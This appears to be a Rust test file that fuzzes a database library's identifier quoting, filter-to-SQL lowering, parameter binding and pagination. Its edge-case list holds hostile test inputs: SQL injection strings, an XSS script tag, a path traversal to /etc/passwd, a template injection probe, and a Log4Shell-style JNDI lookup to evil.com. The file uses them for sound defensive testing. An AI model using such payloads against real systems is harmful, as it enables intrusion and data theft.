//! Randomized and edge-case input tests.
//!
//! Hostile strings must never panic, must never reach SQL text unquoted and
//! must round-trip through bound parameters unchanged.

use omnidb::model::{FieldDef, FieldType};
use omnidb::query::filter::plain_param;
use omnidb::query::sql::{is_identifier, quote_identifier};
use omnidb::query::{SqlDialect, lower_filter};
use omnidb::{Adapter, ConnectionConfig, ExecuteRequest, Model, ModelDefinition, Record};
use rand::Rng;
use rand::distributions::Alphanumeric;
use rand::seq::SliceRandom;
use serde_json::{Value, json};
use tempfile::NamedTempFile;

/// Generate random string of given length
fn random_string(len: usize) -> String {
    rand::thread_rng()
        .sample_iter(&Alphanumeric)
        .take(len)
        .map(char::from)
        .collect()
}

/// Generate various edge-case strings
fn edge_case_strings() -> Vec<String> {
    vec![
        " ".to_string(),
        "\n\r\t".to_string(),
        "🚀".repeat(100),
        "'OR 1=1--".to_string(),
        "'; DROP TABLE notes--".to_string(),
        "\"; DROP TABLE notes--".to_string(),
        "`name`".to_string(),
        "<script>alert(1)</script>".to_string(),
        "../../etc/passwd".to_string(),
        "a".repeat(10000),
        random_string(100),
        "1' UNION SELECT NULL, NULL--".to_string(),
        "${jndi:ldap://evil.com/a}".to_string(),
        "{{7*7}}".to_string(),
        "50%_off!".to_string(),
        "what?".to_string(),
        "\\".to_string(),
    ]
}

fn dialects() -> [SqlDialect; 3] {
    [SqlDialect::MySql, SqlDialect::Postgres, SqlDialect::Sqlite]
}

#[test]
fn fuzz_identifiers_only_quote_valid_names() {
    let mut names = edge_case_strings();
    names.extend((0..50).map(|i| random_string(i % 12)));
    names.push(String::new());

    for name in &names {
        for dialect in dialects() {
            let quoted = quote_identifier(dialect, name);
            assert_eq!(quoted.is_ok(), is_identifier(name), "name: {:?}", name);

            let mut filter = Record::new();
            filter.insert(name.clone(), json!(1));
            let lowered = lower_filter(&filter, dialect, &plain_param);
            assert_eq!(lowered.is_ok(), is_identifier(name), "field: {:?}", name);
        }
    }
}

fn random_scalar(rng: &mut impl Rng) -> Value {
    match rng.gen_range(0..4) {
        0 => json!(rng.gen_range(-1000..1000)),
        1 => json!(random_string(rng.gen_range(1..8))),
        2 => json!(rng.gen_bool(0.5)),
        _ => Value::Null,
    }
}

fn random_condition(rng: &mut impl Rng) -> Value {
    match rng.gen_range(0..8) {
        0 => random_scalar(rng),
        1 => json!({"$ne": random_scalar(rng)}),
        2 => json!({"$gt": rng.gen_range(0..100), "$lte": rng.gen_range(100..200)}),
        3 => {
            let items: Vec<Value> = (0..rng.gen_range(0..4)).map(|_| random_scalar(rng)).collect();
            json!({"$in": items})
        }
        4 => {
            let items: Vec<Value> = (0..rng.gen_range(0..4)).map(|_| random_scalar(rng)).collect();
            json!({"$nin": items})
        }
        5 => json!({"$exists": rng.gen_bool(0.5)}),
        6 => json!({"$regex": random_string(rng.gen_range(1..6)), "$options": "i"}),
        _ => json!({"$not": {"$lt": rng.gen_range(0..50)}}),
    }
}

fn random_filter(rng: &mut impl Rng, depth: u32) -> Record {
    let mut filter = Record::new();
    for _ in 0..rng.gen_range(1..4) {
        let roll = rng.gen_range(0..10);
        if depth > 0 && roll < 3 {
            let op = ["$and", "$or", "$nor"].choose(rng).copied().unwrap_or("$and");
            let branches: Vec<Value> = (0..rng.gen_range(1..4))
                .map(|_| Value::Object(random_filter(rng, depth - 1)))
                .collect();
            filter.insert(op.to_string(), Value::Array(branches));
        } else {
            let field = ["a", "b", "c", "d"].choose(rng).copied().unwrap_or("a");
            filter.insert(field.to_string(), random_condition(rng));
        }
    }
    filter
}

#[test]
fn fuzz_random_filters_bind_every_value() {
    let mut rng = rand::thread_rng();
    for _ in 0..500 {
        let filter = random_filter(&mut rng, 3);
        for dialect in dialects() {
            let lowered = lower_filter(&filter, dialect, &plain_param)
                .unwrap_or_else(|e| panic!("filter {:?} failed: {}", filter, e));
            if let Some(lowered) = lowered {
                let placeholders = lowered.sql.matches('?').count();
                assert_eq!(placeholders, lowered.params.len(), "sql: {}", lowered.sql);
            }
        }
    }
}

async fn notes_model() -> Model {
    let temp_file = NamedTempFile::new().unwrap();
    let db_path = temp_file
        .into_temp_path()
        .keep()
        .unwrap()
        .to_str()
        .unwrap()
        .to_string();
    let adapter = Adapter::open(ConnectionConfig::sqlite(db_path)).await.unwrap();
    adapter
        .execute(ExecuteRequest::sql(
            "CREATE TABLE notes (id INTEGER PRIMARY KEY AUTOINCREMENT, body TEXT)",
            vec![],
        ))
        .await
        .unwrap();
    let definition = ModelDefinition::builder("notes")
        .field("body", FieldDef::new(FieldType::String).required())
        .build()
        .unwrap();
    Model::new(definition, adapter)
}

#[tokio::test]
async fn fuzz_hostile_values_round_trip() {
    let notes = notes_model().await;
    let values = edge_case_strings();

    for body in &values {
        notes.create(json!({"body": body}).as_object().cloned().unwrap()).await.unwrap();
    }
    assert_eq!(notes.count(json!({})).await.unwrap(), values.len() as u64);

    for body in &values {
        let found = notes.find_all(json!({"body": body})).await.unwrap();
        assert_eq!(found.len(), 1, "body: {:?}", body);
        assert_eq!(found[0].get("body"), Some(&json!(body)));

        let matches = notes.like(json!({"body": body})).find_all().await.unwrap();
        assert!(
            matches.iter().any(|n| n.get("body") == Some(&json!(body))),
            "like: {:?}",
            body
        );
    }
}

#[tokio::test]
async fn fuzz_paging_edge_values() {
    let notes = notes_model().await;
    for i in 0..5 {
        notes.create(json!({"body": format!("n{}", i)}).as_object().cloned().unwrap()).await.unwrap();
    }

    for (page, per_page) in [(0, 10), (1, 0)] {
        assert!(notes.paginate(json!({}), page, per_page).await.is_err());
    }
    for (page, per_page) in [(1, 1), (3, 2), (99, 10), (1, u32::MAX as u64)] {
        let result = notes.paginate(json!({}), page, per_page).await.unwrap();
        assert_eq!(result.total, 5);
        assert!(result.items.len() as u64 <= per_page);
    }
}
